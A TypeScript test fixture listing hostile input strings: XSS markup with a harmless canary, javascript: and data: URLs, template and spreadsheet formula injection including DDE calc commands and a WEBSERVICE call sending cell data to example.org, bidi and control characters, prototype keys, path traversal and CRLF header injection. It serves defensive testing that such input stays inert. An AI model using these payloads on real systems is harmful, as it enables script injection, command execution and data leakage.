/** What sets this on a page has run there. */
const canary = "hurt";
const hurt = `window.${canary}=1`;

/** Texts that mean harm, or that nobody thought of, by what they try. None of them may ever be more than text. */
export const hostile: readonly string[] = [
  // Markup that runs.
  `<script>${hurt}</script>`,
  `"><script>${hurt}</script>`,
  `'><img src=x onerror="${hurt}">`,
  `<svg onload=${hurt}>`,
  `<svg><script>${hurt}</script></svg>`,
  `<iframe srcdoc="<script>parent.${canary}=1</script>"></iframe>`,
  `<object data="javascript:${hurt}"></object>`,
  `<video><source onerror="${hurt}"></video>`,
  `<details open ontoggle=${hurt}>`,
  `<input autofocus onfocus=${hurt}>`,
  `<body onpageshow=${hurt}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${hurt}></style></mglyph></table></mtext></math>`,
  `<template><img src=x onerror=${hurt}></template>`,
  `" onmouseover="${hurt}" x="`,
  `' autofocus onfocus='${hurt}`,
  // Markup that ends what it stands in, loads, sends or leads away.
  `</textarea><script>${hurt}</script>`,
  `</title></style></script><script>${hurt}</script>`,
  `--><script>${hurt}</script><!--`,
  `]]><script>${hurt}</script>`,
  "<style>body{display:none!important}</style>",
  '<link rel="stylesheet" href="https://example.org/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://example.org/">',
  '<base href="https://example.org/">',
  '<form action="https://example.org/"><button>go</button></form>',
  '<img src="https://example.org/x.png">',
  // Addresses that run, plain and in Markdown.
  `javascript:${hurt}`,
  `JaVa\tScRiPt:${hurt}`,
  `data:text/html,<script>parent.${canary}=1</script>`,
  `[go](javascript:${hurt})`,
  `[go](  JAVASCRIPT:${hurt})`,
  "![a](https://example.org/x.png)",
  "[a]: https://example.org/x 'b'",
  // Templates of other programs.
  `\${${hurt}}`,
  `{{constructor.constructor("${hurt}")()}}`,
  `<%= ${hurt} %>`,
  // Formulas that reach out in some program.
  `=HYPERLINK("javascript:${hurt}","a")`,
  '=WEBSERVICE("https://example.org/"&A1)',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\uFF1D1+1",
  // Letters that turn, hide, pile up or ring.
  "\u202Eevil\u202C",
  "\u2066a\u2067b\u2068c",
  "a\u0007\u001B[31mred",
  "zero\u200Bwidth\u200D\uFEFF",
  `Z${"\u0335\u0301\u0489".repeat(60)}algo`,
  "\u0645\u0631\u062D\u0628\u0627 \u05E9\u05DC\u05D5\u05DD 123",
  "👩‍👩‍👧‍👦".repeat(40),
  `W${"W".repeat(3000)}`,
  `${"word ".repeat(600)}end`,
  // Names that mean something to a machine.
  "__proto__",
  "constructor",
  "toString",
  "../../etc/passwd",
  "CON",
  "%s%n%x",
  "a\r\nSet-Cookie: b=c",
];
